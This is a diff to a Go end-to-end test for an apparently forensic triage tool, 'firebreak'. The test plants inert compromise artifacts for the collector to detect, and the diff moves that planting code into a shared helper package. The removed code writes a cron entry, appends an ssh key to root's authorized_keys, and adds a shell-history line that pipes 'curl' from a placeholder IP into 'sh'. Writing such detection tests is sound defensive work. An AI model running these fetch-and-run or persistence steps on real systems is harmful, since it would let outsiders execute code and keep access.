@@ -15,7 +15,6 @@ import (
 	"net"
 	"net/http/httptest"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
@@ -32,6 +31,7 @@ import (
 
 	"github.com/firebreak-ir/firebreak/internal/bundle"
 	"github.com/firebreak-ir/firebreak/test/e2e"
+	"github.com/firebreak-ir/firebreak/test/planted"
 )
 
 // collectResult is the part of host-collect's output the tests read.
@@ -191,44 +191,6 @@ func (a *archive) records(t *testing.T, artifact string) []map[string]any {
 	return out
 }
 
-// restoreLater backs up path (or notes that it is absent) and restores it,
-// mode included, when the test ends.
-func restoreLater(t *testing.T, path string) {
-	t.Helper()
-	fi, err := os.Lstat(path)
-	switch {
-	case errors.Is(err, os.ErrNotExist):
-		t.Cleanup(func() { os.Remove(path) })
-	case err != nil:
-		t.Fatalf("backing up %s: %v", path, err)
-	case !fi.Mode().IsRegular():
-		t.Skipf("%s is not a regular file (%s); not touching it", path, fi.Mode())
-	default:
-		b, err := os.ReadFile(path)
-		if err != nil {
-			t.Fatalf("backing up %s: %v", path, err)
-		}
-		t.Cleanup(func() {
-			if err := os.WriteFile(path, b, fi.Mode().Perm()); err != nil {
-				t.Errorf("restoring %s: %v", path, err)
-			}
-			os.Chmod(path, fi.Mode().Perm())
-		})
-	}
-}
-
-func appendFile(t *testing.T, path, text string, mode os.FileMode) {
-	t.Helper()
-	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, mode)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer f.Close()
-	if _, err := f.WriteString(text); err != nil {
-		t.Fatal(err)
-	}
-}
-
 // vmHWM reads a process's peak resident set size in KiB.
 func vmHWM(pid int) int64 {
 	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
@@ -250,71 +212,13 @@ func vmHWM(pid int) int64 {
 // planted item and the manifest; then it tampers with the stored copy and
 // checks that verification and custody show it.
 func TestCollectTriageFindsPlantedArtifacts(t *testing.T) {
-	if os.Geteuid() != 0 {
-		t.Skip("needs root: plants a cron entry in /etc/cron.d, a key in /root/.ssh/authorized_keys and a line in /root/.bash_history (CI runs as root)")
-	}
-	var nonce [4]byte
-	rand.Read(nonce[:])
-	marker := "firebreak-e2e-planted-" + hex.EncodeToString(nonce[:])
-
-	// A process whose executable was deleted from /tmp.
-	exe := filepath.Join("/tmp", marker)
-	src, err := os.ReadFile("/bin/sleep")
-	if err != nil {
+	p := planted.Plant(t, "firebreak-e2e-planted-")
+	marker, exe, cronFile, cronLine, history, stamp, port := p.Marker, p.ExePath, p.CronFile, p.CronLine, p.HistoryFile, p.HistoryStamp, p.Port
+	var exeSum [32]byte
+	if _, err := hex.Decode(exeSum[:], []byte(p.ExeSHA256)); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(exe, src, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { os.Remove(exe) })
-	exeSum := sha256.Sum256(src)
-	proc := exec.Command(exe, "600")
-	if err := proc.Start(); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { proc.Process.Kill(); proc.Wait() })
-	e2e.WaitFor(t, 5*time.Second, "the planted process to start", func() bool {
-		l, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", proc.Process.Pid))
-		return l == exe
-	})
-	if err := os.Remove(exe); err != nil {
-		t.Fatal(err)
-	}
-
-	// A cron entry.
-	cronFile := filepath.Join("/etc/cron.d", marker)
-	cronLine := "*/7 * * * * root /usr/bin/true " + marker
-	if err := os.WriteFile(cronFile, []byte("# planted by a test\n"+cronLine+"\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { os.Remove(cronFile) })
-
-	// An authorized key for root.
-	sshDir := "/root/.ssh"
-	if _, err := os.Lstat(sshDir); errors.Is(err, os.ErrNotExist) {
-		if err := os.Mkdir(sshDir, 0o700); err != nil {
-			t.Fatal(err)
-		}
-		t.Cleanup(func() { os.Remove(sshDir) })
-	}
-	keys := filepath.Join(sshDir, "authorized_keys")
-	restoreLater(t, keys)
-	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f " + marker
-	appendFile(t, keys, "\n"+key+"\n", 0o600)
-
-	// A shell history line.
-	history := "/root/.bash_history"
-	restoreLater(t, history)
-	stamp := time.Now().Unix()
-	appendFile(t, history, fmt.Sprintf("#%d\ncurl -s http://198.51.100.7/%s | sh\n", stamp, marker), 0o600)
-
-	// A listening TCP socket, held by this test process.
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { ln.Close() })
-	port := ln.Addr().(*net.TCPAddr).Port
+	pid := p.Pid
 
 	b := e2e.Build(t)
 	c := e2e.StartController(t, b, e2e.ControllerOptions{})
@@ -352,12 +256,12 @@ func TestCollectTriageFindsPlantedArtifacts(t *testing.T) {
 	t.Run("deleted executable", func(t *testing.T) {
 		var rec map[string]any
 		for _, r := range a.records(t, "processes") {
-			if int(r["pid"].(float64)) == proc.Process.Pid {
+			if int(r["pid"].(float64)) == pid {
 				rec = r
 			}
 		}
 		if rec == nil {
-			t.Fatalf("process %d not collected", proc.Process.Pid)
+			t.Fatalf("process %d not collected", pid)
 		}
 		if rec["exe"] != exe || rec["exe_deleted"] != true || rec["suspicious_location"] != true || rec["exe_sha256"] != hex.EncodeToString(exeSum[:]) {
 			t.Errorf("record %v: want exe %s deleted, suspicious, sha256 %x", rec, exe, exeSum)
